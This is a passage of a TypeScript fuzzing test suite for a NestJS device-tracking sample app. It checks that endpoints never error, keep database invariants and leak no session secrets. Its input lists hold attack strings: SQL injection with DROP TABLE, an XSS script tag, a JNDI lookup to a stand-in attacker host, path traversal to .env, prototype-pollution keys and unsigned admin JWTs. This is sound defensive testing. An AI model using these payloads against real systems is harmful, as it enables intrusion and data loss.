import { setImmediate } from 'node:timers/promises';
import type { INestApplication } from '@nestjs/common';
import fc from 'fast-check';
import { Device } from 'nestjs-device-tracker';
import { DeviceStore } from '../../lib/persistence/device.store.js';
import request, { type Response } from 'supertest';
import { DataSource, In, type Repository } from 'typeorm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SAMPLE_AUTHS } from '../../sample-app/src/config.js';
import { canonicalIpAddress } from '../../lib/values/ip-address.js';
import { TEST_DB } from '../support/database.js';
import { LogCollector } from '../support/log-collector.js';
import { PLATFORM } from '../support/platform.js';
import { signInToSample, startSampleApp, type SampleLogin } from '../support/sample-app.js';
import { sidOf } from '../support/token-claims.js';

/**
 * Issue 7, fuzzing: fast-check writes requests to every endpoint of the sample app (bodies, path parameters, query
 * strings, headers) and the suite checks, after each one, the answer and the database. Answers are 2xx (3xx for the
 * one redirect, GET /) or 4xx in Nest's shape, never 5xx, and nothing is logged as an error; the devices table keeps
 * its invariants; a request changes, and shows, only the devices of the user it speaks for; no answer shows a session
 * id or refresh token digest.
 *
 * It runs against both ways the sample authenticates access tokens (`auth`: passport's JwtAuthGuard + DeviceSessionGuard,
 * and SampleJwtGuard, a DeviceJwtGuard): all four properties with passport; with device-jwt, the two whose routes are
 * behind that guard (a user's devices, the admin endpoints), as many runs each. Sign-in, refresh and the pages pass no
 * JWT guard, so the same requests would take the same paths through the same code.
 *
 * FUZZ_RUNS (default 300): runs per property; raise it for a longer local run, e.g. FUZZ_RUNS=1000.
 * FUZZ_SEED: fast-check's seed, to run the same requests again; a failure prints the seed it ran with. Requests go
 * to one app whose database state carries over from run to run, so a replay is close but not always exact.
 */

const RUNS = Number(process.env.FUZZ_RUNS ?? 300);
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
if (!(Number.isSafeInteger(RUNS) && RUNS > 0)) throw new Error(`FUZZ_RUNS must be a whole number > 0 (got ${RUNS})`);
if (SEED !== undefined && !Number.isSafeInteger(SEED)) throw new Error(`FUZZ_SEED must be an integer (got ${SEED})`);

/** Past this, a property is interrupted and fails (shrinking included): it runs about 20 times slower than usual. */
const TIME_LIMIT_MS = 20_000 + RUNS * 500;
const FUZZ_OPTIONS = {
  numRuns: RUNS,
  ...(SEED === undefined ? {} : { seed: SEED }),
  plugins: [fc.interruptAfterTimeLimit(TIME_LIMIT_MS, { failOnInterrupt: true })],
};

const USERS = ['alice', 'bob', 'admin'] as const;
type UserName = (typeof USERS)[number];
/** The demo users' ids, in the order the sample seeds them. */
const USER_IDS: Record<UserName, string> = { alice: '1', bob: '2', admin: '3' };
const KNOWN_USER_IDS: string[] = Object.values(USER_IDS);

/**
 * What a placeholder in a generated request stands for: the user's current access or refresh token, an access token
 * of theirs whose session has ended, or their device's id. Placeholders are filled in as the request is sent (the
 * tokens change from run to run), so a counterexample reads `Bearer <bob:access>`, in any URL encoding.
 */
const REFS = ['access', 'refresh', 'stale', 'device'] as const;
type Ref = (typeof REFS)[number];
const PLACEHOLDER = /(?:<|%3C|%253C)(alice|bob|admin)(?::|%3A|%253A)(access|refresh|stale|device)(?:>|%3E|%253E)/gi;

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'OPTIONS';

interface Route {
  /** Method and path as the controllers declare them. */
  name: string;
  method: Method;
  /** The path, with `param` (already encoded) in place of the route's parameter. */
  path: (param: string) => string;
  /** What the parameter names, when the route has one. */
  param?: 'device' | 'file';
  /** The query parameters the route reads. */
  query: readonly string[];
  /**
   * Whose devices a request may change: `credentials`, the user whose credentials or tokens it carries (login and
   * refresh); `caller`, the bearer's own; `admin`, anyone's for an administrator, else the bearer's own (the session
   * guard records when the caller was last seen before the admin guard refuses); `none`, nobody's.
   */
  changes: 'credentials' | 'caller' | 'admin' | 'none';
  /** What a body for the route would hold. */
  body?: 'login' | 'refresh';
}

/** The route `name` (`METHOD /path/:param`) declares. */
function endpoint(name: string, changes: Route['changes'], { query = [], body }: Partial<Route> = {}): Route {
  const [method, pattern] = name.split(' ') as [Method, string];
  const param = /:id\b/.test(pattern) ? 'device' : /:file\b/.test(pattern) ? 'file' : undefined;
  // A replacer function: a value holding `$&` or `$1` must go in as written.
  return { name, method, path: (value) => pattern.replace(/:(?:id|file)\b/, () => value), param, query, changes, body };
}

/** Every route of the sample app (its controllers, and the module's in lib/), in four groups. */
const ROUTES = {
  auth: [
    endpoint('POST /auth/login', 'credentials', { body: 'login' }),
    endpoint('POST /auth/refresh', 'credentials', { body: 'refresh' }),
  ],
  devices: [
    endpoint('GET /me', 'caller'),
    endpoint('GET /api/devices', 'caller', { query: ['limit', 'offset'] }),
    endpoint('POST /api/devices/logout-others', 'caller'),
    endpoint('POST /api/devices/logout-all', 'caller'),
    endpoint('POST /api/devices/:id/logout', 'caller'),
  ],
  admin: [
    endpoint('GET /api/admin/devices', 'admin', { query: ['userId', 'active', 'ip', 'seenSince', 'limit', 'offset'] }),
    endpoint('GET /api/admin/devices/:id', 'admin'),
    endpoint('POST /api/admin/devices/:id/logout', 'admin'),
    endpoint('POST /api/admin/devices/logout-all', 'admin', { query: ['userId'] }),
  ],
  pages: [
    endpoint('GET /', 'none'),
    endpoint('GET /devices', 'none'),
    endpoint('GET /admin', 'none'),
    endpoint('GET /assets/:file', 'none'),
    // Swagger UI and its JSON document (sample-app/src/openapi.ts).
    endpoint('GET /docs', 'none'),
    endpoint('GET /docs-json', 'none'),
  ],
} satisfies Record<string, Route[]>;

const ROUTE_BY_NAME = new Map(Object.values(ROUTES).flatMap((routes) => routes.map((route) => [route.name, route])));

/** A generated request, as it is sent but for its placeholders. */
interface FuzzRequest {
  route: string;
  method: Method;
  url: string;
  headers: Record<string, string | undefined>;
  body?: { contentType?: string; text: string };
}

// ---------------------------------------------------------------------------------------------------------------
// Arbitraries

const user = fc.constantFrom(...USERS);
const refTo = (...kinds: Ref[]) => fc.tuple(user, fc.constantFrom(...kinds)).map(([name, kind]) => `<${name}:${kind}>`);

/** Text that has broken parsers, routers and queries before. */
const FRAGMENTS = [
  "' OR 1=1 --",
  "1'; DROP TABLE device_tracker_devices; --",
  '%',
  '_',
  '*',
  '../',
  '..%2F',
  '%2e%2e%2f',
  '..\\',
  '/',
  '//',
  '%00',
  '%0d%0a',
  '%zz',
  '%c0%ae',
  '%ff',
  '{"$ne":null}',
  '$where',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  '0x10',
  '9007199254740993',
  'null',
  'undefined',
  'true',
  'false',
  '[]',
  '{}',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '\u202e',
  '\ufeff',
  '\u0000',
  '\r\n',
  '\t',
  ' ',
  '🙂',
  'ünïcödé',
  '设备',
  'devices.html',
  'admin.html',
  'styles.css',
  'api.js',
  '.env',
  '../package.json',
  '..%2f..%2fpackage.json',
];

/** A long run of one character, up to a few kB once encoded. */
const long = fc
  .tuple(fc.constantFrom('a', '%', 'é', '🙂', '../', '0'), fc.integer({ min: 100, max: 400 }))
  .map(([unit, count]) => unit.repeat(count));

const atom: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }) },
  { weight: 3, arbitrary: fc.constantFrom(...FRAGMENTS) },
  {
    weight: 2,
    arbitrary: fc.uuid().chain((id) => fc.constantFrom(id, id.toUpperCase(), `{${id}}`, id.replaceAll('-', ''))),
  },
  { weight: 2, arbitrary: refTo('device') },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map(String) },
  { weight: 1, arbitrary: fc.oneof(fc.ipV4(), fc.ipV6(), fc.ipV4Extended()) },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()) },
  { weight: 1, arbitrary: long },
);

/** Any text: mostly one atom, sometimes a few run together. */
const text = fc.oneof(
  { weight: 4, arbitrary: atom },
  { weight: 1, arbitrary: fc.array(atom, { minLength: 2, maxLength: 3 }).map((parts) => parts.join('')) },
);

/**
 * A header value Node's HTTP client will send: the text's UTF-8 bytes read as Latin-1 (as a browser sends them), with
 * control characters other than tab dropped (raw control bytes are test/security/headers.e2e-spec.ts's business).
 */
const toHeader = (value: string) =>
  Buffer.from(value, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
    .slice(0, 2000);
const headerText = text.map(toHeader);

/**
 * How a value goes into a URL: percent-encoded as a client should, encoded twice, or raw (`#` aside, which would end
 * the URL): supertest's WHATWG URL then encodes only what cannot be sent, so `%zz`, `%00`, `..` and `/` arrive as
 * written.
 */
const ENCODINGS = ['encoded', 'encoded', 'raw', 'twice'] as const;
type Encoding = (typeof ENCODINGS)[number];

function encode(value: string, encoding: Encoding): string {
  if (encoding === 'raw') return value.replaceAll('#', '%23');
  const once = encodeURIComponent(value);
  return encoding === 'twice' ? encodeURIComponent(once) : once;
}

const encoded = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, fc.constantFrom(...ENCODINGS)).map(([raw, encoding]) => encode(raw, encoding));

/** Values the routes accept, or nearly: they reach further than random text does. */
const PLAUSIBLE: Record<string, fc.Arbitrary<string>> = {
  limit: fc.integer({ min: -1, max: 101 }).map(String),
  offset: fc.oneof(fc.integer({ min: -1, max: 5 }), fc.constantFrom(99_999, 100_000, 100_001)).map(String),
  userId: fc.constantFrom(...KNOWN_USER_IDS, '0', '4', '01', ' 1', '1 ', 'alice'),
  active: fc.constantFrom('true', 'false', 'TRUE', '1', ''),
  ip: fc.oneof(
    fc.constantFrom('127.0.0.1', '::1', '::ffff:127.0.0.1', '127.1', '0:0:0:0:0:0:0:1'),
    fc.ipV4(),
    fc.ipV6(),
  ),
  seenSince: fc.oneof(
    fc
      .date({ min: new Date('0001-01-01T00:00:00Z'), max: new Date('9999-12-31T23:59:59Z'), noInvalidDate: true })
      .map((date) => date.toISOString()),
    fc.constantFrom('2026-11-24', '0001-01-01', '9999-12-31T23:59:59.999Z', '2026-11-24T20:13:47+14:00', '2026-02-29'),
  ),
};

/** Keys a query parser may read as nested objects, arrays or prototype properties. */
const ODD_KEYS = [
  'userId[]',
  'userId[$ne]',
  'limit[]',
  '__proto__',
  '__proto__[isAdmin]',
  'constructor[prototype][isAdmin]',
  'a[b][c]',
  '',
  'USERID',
];

/** A query string: the route's own keys (often repeated), odd and unknown ones, values of every kind. */
function queryString(keys: readonly string[]): fc.Arbitrary<string> {
  const own = keys.length > 0 ? [{ weight: 6, arbitrary: fc.constantFrom(...keys) }] : [];
  const key = fc.oneof(
    ...own,
    { weight: 1, arbitrary: fc.constantFrom(...ODD_KEYS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
  );
  const pair = key.chain((name) =>
    fc.tuple(
      fc.constant(name),
      fc.option(encoded(Object.hasOwn(PLAUSIBLE, name) ? fc.oneof(PLAUSIBLE[name]!, text) : text), {
        nil: undefined,
        freq: 10,
      }),
    ),
  );
  return fc
    .array(pair, { maxLength: 5 })
    .map((pairs) =>
      pairs
        .map(([name, value]) =>
          value === undefined ? encodeURIComponent(name) : `${encodeURIComponent(name)}=${value}`,
        )
        .join('&'),
    );
}

const DEMO_FILES = ['devices.html', 'admin.html', 'styles.css', 'api.js', 'devices.js', 'admin.js'];

/** A device id (someone's, or any UUID) or a file name the pages serve, as often as any text. */
const paramValue = (kind: Route['param']) =>
  fc.oneof(
    kind === 'device'
      ? { weight: 4, arbitrary: fc.oneof(refTo('device'), refTo('device'), fc.uuid()) }
      : { weight: 2, arbitrary: fc.constantFrom(...DEMO_FILES) },
    { weight: 3, arbitrary: text },
  );

/** `{"alg":"none"}` tokens claiming to be the administrator: a signature check must refuse them. */
const UNSIGNED = ['3', 3, 'admin'].map(
  (sub) =>
    `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.` +
    `${Buffer.from(JSON.stringify({ sub, username: 'admin', sid: 'x', typ: 'access' })).toString('base64url')}.`,
);

/** An Authorization header, mostly a live token (often `mostly`'s, when given); sometimes none at all. */
const authorization = (mostly?: UserName) =>
  fc.option(
    fc.oneof(
      ...(mostly ? [{ weight: 6, arbitrary: fc.constant(`Bearer <${mostly}:access>`) }] : []),
      { weight: 8, arbitrary: refTo('access').map((token) => `Bearer ${token}`) },
      { weight: 2, arbitrary: refTo('stale', 'refresh').map((token) => `Bearer ${token}`) },
      {
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom('bearer', 'BEARER', 'Bearer ', 'Basic', 'Token', 'JWT', ''), refTo('access'))
          .map(([scheme, token]) => `${scheme} ${token}`.trim()),
      },
      { weight: 1, arbitrary: refTo('access').map((token) => `Bearer ${token}x`) },
      { weight: 1, arbitrary: fc.constantFrom(...UNSIGNED).map((token) => `Bearer ${token}`) },
      { weight: 1, arbitrary: headerText.map((value) => `Bearer ${value}`) },
      { weight: 1, arbitrary: headerText },
    ),
    { nil: undefined, freq: 8 },
  );

const ip = fc.oneof(
  fc.ipV4(),
  fc.ipV6(),
  fc.ipV4Extended(),
  fc.constantFrom('unknown', '_hidden', '[::1]:80', '1.2.3.4:80'),
);

const USER_AGENTS = [
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'curl/8.5.0',
];

const headers = (mostly?: UserName): fc.Arbitrary<Record<string, string | undefined>> =>
  fc.record(
    {
      authorization: authorization(mostly),
      'user-agent': fc.oneof(fc.constantFrom(...USER_AGENTS), headerText),
      'x-device-id': fc.oneof({ weight: 2, arbitrary: refTo('device') }, fc.uuid(), headerText),
      cookie: fc.oneof(
        refTo('device').map((id) => `device_id=${id}`),
        fc.tuple(refTo('device'), refTo('device')).map(([first, second]) => `device_id=${first}; device_id=${second}`),
        encoded(text).map((value) => toHeader(`device_id=${value}`)),
        headerText,
      ),
      'x-forwarded-for': fc.oneof(
        fc.array(fc.oneof(ip, headerText), { minLength: 1, maxLength: 4 }).map((hops) => hops.join(', ')),
        headerText,
      ),
      forwarded: fc.oneof(
        ip.map((address) => `for=${address};proto=https`),
        ip.map((address) => `for="[${address}]:443"`),
        headerText,
      ),
    },
    { requiredKeys: ['authorization'] },
  );

/** A field of a body: often what the route expects, else any text or JSON. */
const field = (expected: fc.Arbitrary<string>) =>
  fc.oneof(
    { weight: 4, arbitrary: expected },
    { weight: 2, arbitrary: text },
    { weight: 1, arbitrary: fc.jsonValue() },
  );

const BODY_SHAPES: Record<'login' | 'refresh' | 'other', fc.Arbitrary<Record<string, unknown>>> = {
  login: fc.oneof(
    user.map((name) => ({ username: name, password: `${name}-password` })),
    fc.record(
      {
        username: field(fc.oneof(user, fc.constantFrom('ALICE', 'alice ', ' bob', 'Admin'))),
        password: field(user.map((name) => `${name}-password`)),
      },
      { requiredKeys: [] },
    ),
  ),
  refresh: fc.oneof(
    refTo('refresh').map((token) => ({ refresh_token: token })),
    fc.record({ refresh_token: field(refTo('refresh', 'access', 'stale')) }, { requiredKeys: [] }),
  ),
  other: fc.record(
    { userId: field(fc.constantFrom(...KNOWN_USER_IDS)), deviceId: field(refTo('device')), isAdmin: fc.jsonValue() },
    { requiredKeys: [] },
  ),
};

/** Keys a body should not be able to slip past the validation: prototypes and fields of other routes. */
const extraFields = fc.dictionary(
  fc.oneof(
    fc.string({ maxLength: 8 }),
    fc.constantFrom('__proto__', 'constructor', 'isAdmin', 'userId', 'refresh_token'),
  ),
  fc.jsonValue({ maxDepth: 2 }),
  { maxKeys: 3 },
);

const MALFORMED_JSON = [
  '',
  '{',
  '{"username":',
  '[1,]',
  "{'username':'alice'}",
  '\ufeff{"username":"alice","password":"alice-password"}',
  '{"username":"alice","username":"bob","password":"bob-password"}',
  '{"__proto__":{"isAdmin":true},"username":"alice","password":"alice-password"}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '1e999',
  '"alice"',
  'null',
  'nul',
  '\u0000',
];

/** JSON nested a few to thousands of levels deep, in arrays or objects: recursive parsers and validators overflow. */
const deepJson = fc
  .tuple(fc.integer({ min: 2, max: 5000 }), fc.constantFrom(['[', ']'], ['{"refresh_token":', '}'], ['{"a":[', ']}']))
  .map(([depth, [open, close]]) => `${open.repeat(depth)}1${close.repeat(depth)}`);

function bodyText(shape: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<string> {
  const json = fc
    .tuple(shape, fc.option(extraFields, { nil: undefined, freq: 4 }))
    .map(([fields, extra]) => JSON.stringify({ ...extra, ...fields }));
  return fc.oneof(
    { weight: 10, arbitrary: json },
    { weight: 1, arbitrary: fc.jsonValue().map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: fc.object().map((value) => JSON.stringify(value)) },
    {
      weight: 2,
      arbitrary: shape.map((fields) =>
        new URLSearchParams(
          Object.entries(fields).map(([key, value]): [string, string] => [
            key,
            typeof value === 'string' ? value : JSON.stringify(value),
          ]),
        ).toString(),
      ),
    },
    { weight: 1, arbitrary: json.chain((whole) => fc.nat(whole.length).map((cut) => whole.slice(0, cut))) },
    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_JSON) },
    { weight: 1, arbitrary: deepJson },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 50 }) },
    { weight: 1, arbitrary: fc.constant(JSON.stringify({ username: 'a'.repeat(200 * 1024), password: 'x' })) },
  );
}

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'application/vnd.api+json',
  'application/x-www-form-urlencoded',
  'text/plain',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'json',
  ';',
];

/** A body and its Content-Type: mostly JSON, sometimes another type, a made-up one or none. */
const body = (shape: fc.Arbitrary<Record<string, unknown>>) =>
  fc.record({
    contentType: fc.option(
      fc.oneof(
        { weight: 8, arbitrary: fc.constant('application/json') },
        { weight: 3, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
        { weight: 1, arbitrary: headerText },
      ),
      { nil: undefined, freq: 12 },
    ),
    text: bodyText(shape),
  });

const METHODS: Method[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'];

/** A request to one of `routes`: mostly with the route's method, parameters of every kind, any headers and body. */
function fuzzRequest(routes: Route[], mostly?: UserName): fc.Arbitrary<FuzzRequest> {
  return fc
    .constantFrom(...routes)
    .chain((route) =>
      fc.record(
        {
          route: fc.constant(route.name),
          method: fc.oneof({ weight: 9, arbitrary: fc.constant(route.method) }, fc.constantFrom(...METHODS)),
          url: fc
            .tuple(
              route.param ? encoded(paramValue(route.param)) : fc.constant(''),
              fc.option(queryString(route.query), { nil: undefined, freq: 3 }),
            )
            .map(([param, query]) => (query === undefined ? route.path(param) : `${route.path(param)}?${query}`)),
          headers: headers(mostly),
          body: fc.option(body(BODY_SHAPES[route.body ?? 'other']), { nil: undefined, freq: route.body ? 8 : 2 }),
        },
        { requiredKeys: ['route', 'method', 'url', 'headers'] },
      ),
    )
    .filter((spec) => headSize(spec) <= MAX_HEAD_SIZE);
}

/**
 * Node's HTTP server answers a request whose head (request line and headers) exceeds 16 kB with a bare 431 before
 * the platform sees it; headers.e2e-spec.ts covers that. Requests stay well below, tokens (~300 bytes each) included.
 */
const MAX_HEAD_SIZE = 12 * 1024;

const headSize = (spec: FuzzRequest) =>
  Buffer.byteLength(spec.url) +
  Object.entries(spec.headers).reduce(
    (size, [name, value]) => size + name.length + Buffer.byteLength(value ?? '') + 4,
    0,
  );

// ---------------------------------------------------------------------------------------------------------------
// Checks

/** Control characters, line separators and bidi overrides: what the module strips from user agents. */
const UNPRINTABLE = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u;

/** A row a run added, removed or changed in any column. */
interface Change {
  id: string;
  was?: Device;
  is?: Device;
}

function changedRows(before: Device[], after: Device[]): Change[] {
  const was = new Map(before.map((row) => [row.id, row]));
  const is = new Map(after.map((row) => [row.id, row]));
  return [...new Set([...was.keys(), ...is.keys()])]
    .filter((id) => JSON.stringify(was.get(id)) !== JSON.stringify(is.get(id)))
    .map((id) => ({ id, was: was.get(id), is: is.get(id) }));
}

const time = (date: Date | null) => date?.getTime() ?? Number.NaN;

/**
 * The devices table's invariants, as the module keeps them (a login writes a row, a logout ends it, DeviceStore's
 * `recordSeen` and `rotateRefreshToken` record a later sighting); one line per broken one.
 */
function invariantProblems(rows: Device[]): string[] {
  return rows.flatMap((row) =>
    (
      [
        [KNOWN_USER_IDS.includes(row.userId), 'belongs to a demo user'],
        [row.isActive === (row.revokedAt === null), 'is active exactly while revokedAt is null'],
        [!row.isActive || Boolean(row.sessionId), 'has a session while active'],
        [time(row.createdAt) <= time(row.lastLoginAt), 'was created before its last login'],
        [time(row.createdAt) <= time(row.lastSeenAt), 'was created before it was last seen'],
        [row.revokedAt === null || time(row.createdAt) <= time(row.revokedAt), 'was created before it was logged out'],
        [!UNPRINTABLE.test(row.userAgent) && row.userAgent.length <= 512, 'has a printable user agent of 512 at most'],
        [!UNPRINTABLE.test(row.deviceName), 'has a printable name'],
        [row.ipAddress === null || canonicalIpAddress(row.ipAddress) === row.ipAddress, 'has a canonical IP address'],
      ] as const
    )
      .filter(([holds]) => !holds)
      .map(([, invariant]) => `device ${row.id} no longer ${invariant}: ${JSON.stringify(row)}`),
  );
}

/** The users whose placeholder (token or device id) or name appears in `haystack`. */
function usersIn(haystack: string, byName: boolean): Set<string> {
  const found = new Set<string>();
  for (const [, name] of haystack.matchAll(PLACEHOLDER)) found.add(USER_IDS[name!.toLowerCase() as UserName]);
  if (byName) for (const name of USERS) if (haystack.toLowerCase().includes(name)) found.add(USER_IDS[name]);
  return found;
}

/**
 * The users whose rows `spec` may change; `undefined` for any user's (an administrator on the admin routes). Read
 * wide: a token of theirs anywhere in the Authorization header counts, whatever its scheme or state.
 */
function mayChange(spec: FuzzRequest): Set<string> | undefined {
  const route = ROUTE_BY_NAME.get(spec.route)!;
  const bearer = usersIn(spec.headers.authorization ?? '', false);
  switch (route.changes) {
    case 'credentials':
      return usersIn(`${spec.url} ${spec.body?.text ?? ''}`, true);
    case 'admin':
      return bearer.has(USER_IDS.admin) ? undefined : bearer;
    case 'caller':
      return bearer;
    case 'none':
      return new Set();
  }
}

/** Rows that changed (appeared, went or differ in any column) though `spec` may not change their owner's. */
function trespasses(spec: FuzzRequest, changed: Change[]): string[] {
  const allowed = mayChange(spec);
  if (!allowed) return [];
  return changed
    .map(({ id, was, is }) => ({
      id,
      was,
      is,
      owners: [was?.userId, is?.userId].filter((owner) => owner !== undefined),
    }))
    .filter(({ owners }) => !owners.every((owner) => allowed.has(owner)))
    .map(
      ({ id, was, is, owners }) =>
        `device ${id} of user ${owners.join('/')}: ${JSON.stringify(was)} → ${JSON.stringify(is)}`,
    );
}

/** Keys that would carry a credential. */
const SECRET_KEY = /jti|session.?id|^sid$|refresh.?token/i;

function secretKeys(value: unknown, path: string, found: string[]): string[] {
  if (Array.isArray(value)) value.forEach((item, index) => secretKeys(item, `${path}[${index}]`, found));
  else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      if (SECRET_KEY.test(key)) found.push(`${path}.${key}`);
      secretKeys(item, `${path}.${key}`, found);
    }
  }
  return found;
}

/**
 * Device ids the answer shows of users whose devices the request may not change (see `mayChange`), beyond those the
 * request carried itself (`sent`: a 404 may echo the path it was asked for) or an earlier one wrote into a user
 * agent (which the answer may show as text).
 */
function exposures(spec: FuzzRequest, response: Response, rows: Device[], sent: string): string[] {
  const allowed = mayChange(spec);
  if (!allowed) return [];
  const shown = `${response.text ?? ''} ${JSON.stringify(response.headers)}`.toLowerCase();
  const written = rows.map((row) => [row.userAgent, row.deviceName, row.browser, row.os].join(' '));
  const carried = [sent, ...written].join(' ').toLowerCase();
  return rows
    .filter(({ id, userId }) => !allowed.has(userId) && shown.includes(id) && !carried.includes(id))
    .map(({ id, userId }) => `the answer shows device ${id} of user ${userId}`);
}

/** Session ids and refresh token digests in the answer (body or headers), and keys named after them. */
function leaks(spec: FuzzRequest, response: Response, rows: Device[]): string[] {
  const shown = `${response.text ?? ''} ${JSON.stringify(response.headers)}`.toLowerCase();
  const secrets = rows.flatMap((row) =>
    [row.sessionId, row.refreshTokenJti, row.previousRefreshTokenJti, row.concurrentRefreshTokenJti].filter(
      (secret): secret is string => Boolean(secret),
    ),
  );
  const problems = secrets
    .filter((secret) => shown.includes(secret.toLowerCase()))
    .map((secret) => `the answer shows the secret ${secret}`);
  const route = ROUTE_BY_NAME.get(spec.route)!;
  // The OpenAPI document names the refresh endpoint's body field; it describes requests and holds no data.
  if (!isJson(response) || route.name === 'GET /docs-json') return problems;
  // The token pair is the answer of a successful login or refresh.
  const tokenPair = route.changes === 'credentials' && response.status === 200 ? ['$.refresh_token'] : [];
  const keys = secretKeys(response.body, '$', []).filter((key) => !tokenPair.includes(key));
  return [...problems, ...keys.map((key) => `the answer has a key ${key}`)];
}

const isJson = (response: Response) => String(response.headers['content-type'] ?? '').startsWith('application/json');

/**
 * Answers the platform gives itself, before Nest's exception layer runs: Fastify's router refuses a path parameter
 * over its `maxParamLength` (100) with 414, and a path it cannot decode with 400, each in Fastify's error shape,
 * which adds a `code`.
 */
const PLATFORM_OWN: Record<string, { status: number; code: string }[]> = {
  express: [],
  fastify: [
    { status: 414, code: 'FST_ERR_MAX_PARAM_LENGTH' },
    { status: 400, code: 'FST_ERR_BAD_URL' },
  ],
};

/**
 * The path as it was sent, without its query: supertest's URL parser turns `\` into `/` and resolves some dot
 * segments, so `/assets/..\` goes out as `/`.
 */
const sentPath = (response: Response) =>
  (response.request as unknown as { req: { path: string } }).req.path.split('?', 1)[0];

/** What is wrong with the answer: a 5xx, a 3xx but for GET / (to /devices), a 4xx not in Nest's shape. */
function answerProblems(spec: FuzzRequest, response: Response): string[] {
  const { status } = response;
  if (status >= 200 && status < 300) return [];
  if (status >= 300 && status < 400) {
    const home = spec.method === 'GET' && sentPath(response) === '/' && response.headers.location === '/devices';
    return home ? [] : [`a ${status} from ${sentPath(response)} to ${response.headers.location}`];
  }
  if (status < 400 || status >= 500) return [`a ${status}: ${response.text?.slice(0, 500)}`];
  if (!isJson(response)) return [`a ${status} as ${response.headers['content-type']}: ${response.text?.slice(0, 200)}`];
  const { statusCode, message, error, ...rest } = response.body as Record<string, unknown>;
  const own = PLATFORM_OWN[PLATFORM]!.find((answer) => answer.status === status && answer.code === rest.code);
  const problems: string[] = [];
  if (statusCode !== status) problems.push(`statusCode ${JSON.stringify(statusCode)}`);
  const messageOk =
    typeof message === 'string' || (Array.isArray(message) && message.every((line) => typeof line === 'string'));
  if (!messageOk) problems.push(`message ${JSON.stringify(message)}`);
  if (error !== undefined && typeof error !== 'string') problems.push(`error ${JSON.stringify(error)}`);
  const extra = own ? Object.keys(rest).filter((key) => key !== 'code') : Object.keys(rest);
  if (extra.length > 0) problems.push(`extra keys ${extra.join(', ')}`);
  return problems.map((problem) => `a ${status} not in Nest's shape (${problem}): ${response.text}`);
}

// ---------------------------------------------------------------------------------------------------------------

interface Signed extends SampleLogin {
  /** The `sid` claim of its tokens: the device's session while it stays signed in. */
  sessionId: string;
  /** An access token of an ended session: the one signed in before this. */
  stale: string;
}

/** The properties: requests to one group of routes each; `guarded` when they pass the app's JWT guard. */
const PROPERTIES = [
  { name: 'POST /auth/login and /auth/refresh', routes: ROUTES.auth, guarded: false },
  { name: "a user's devices: /me and /api/devices", routes: ROUTES.devices, guarded: true },
  { name: 'the admin endpoints: /api/admin/devices', routes: ROUTES.admin, mostly: 'admin', guarded: true },
  { name: 'the pages, their assets and the OpenAPI document', routes: ROUTES.pages, guarded: false },
] satisfies { name: string; routes: Route[]; mostly?: UserName; guarded: boolean }[];

describe.each(SAMPLE_AUTHS)(`Fuzzing every endpoint of the sample app (auth: %s, ${PLATFORM}, ${TEST_DB})`, (auth) => {
  let app: INestApplication;
  let devices: Repository<Device>;
  const logs = new LogCollector();
  const signed = {} as Record<UserName, Signed>;
  /** `lastSeenAt` writes, which land after the answer: awaited before the table is read. */
  const writesInFlight = new Set<Promise<unknown>>();

  async function signIn(name: UserName): Promise<void> {
    const previous = signed[name] as Signed | undefined;
    // Back on the same device, so the table does not grow with every sign-in.
    const device: Record<string, string> = { 'user-agent': `fuzz-${name}` };
    if (previous) device['x-device-id'] = previous.deviceId;
    const login = await signInToSample(app, name, device);
    signed[name] = { ...login, sessionId: sidOf(login.access), stale: previous?.access ?? '' };
  }

  /** Signs in again whoever the last runs logged out (or whose device a login moved to a new session). */
  async function keepSignedIn(): Promise<void> {
    const rows = await devices.findBy({ id: In(USERS.map((name) => signed[name].deviceId)) });
    for (const name of USERS) {
      const row = rows.find(({ id }) => id === signed[name].deviceId);
      if (!row?.isActive || row.sessionId !== signed[name].sessionId) await signIn(name);
    }
  }

  function resolve(template: string): string {
    return template.replace(PLACEHOLDER, (_match, name: string, kind: Ref) => {
      const login = signed[name.toLowerCase() as UserName];
      return { access: login.access, refresh: login.refresh, stale: login.stale, device: login.deviceId }[kind];
    });
  }

  function send(spec: FuzzRequest): Promise<Response> {
    const call = request(app.getHttpServer())[spec.method.toLowerCase() as Lowercase<Method>](resolve(spec.url));
    for (const [name, value] of Object.entries(spec.headers)) if (value !== undefined) call.set(name, resolve(value));
